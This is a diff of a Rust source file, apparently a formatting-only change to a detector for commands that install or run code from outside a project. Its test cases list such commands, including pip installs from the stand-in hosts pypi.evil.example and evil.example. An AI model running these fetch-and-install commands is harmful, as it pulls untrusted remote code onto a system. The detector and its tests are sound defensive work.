@@ -29,7 +29,15 @@ const SOURCE_OPTIONS: &[&str] = &[
 
 /// Spec prefixes that name a version-control repository.
 const VCS_PREFIXES: &[&str] = &[
-    "git+", "hg+", "svn+", "bzr+", "git://", "github:", "gitlab:", "bitbucket:", "gist:",
+    "git+",
+    "hg+",
+    "svn+",
+    "bzr+",
+    "git://",
+    "github:",
+    "gitlab:",
+    "bitbucket:",
+    "gist:",
 ];
 
 /// When `program` (after wrappers) with `args` installs or runs code from outside a
@@ -115,7 +123,10 @@ mod tests {
             ("pipx", "run --spec git+https://github.com/x/y tool"),
             ("pip", "install git+https://github.com/x/y.git"),
             ("pip", "install pkg@git+https://github.com/x/y.git"),
-            ("pip", "install --index-url https://pypi.evil.example/simple pkg"),
+            (
+                "pip",
+                "install --index-url https://pypi.evil.example/simple pkg",
+            ),
             ("python3", "-m pip install https://evil.example/p.tar.gz"),
             ("npx", "github:x/y"),
             ("npx", "x/y"),
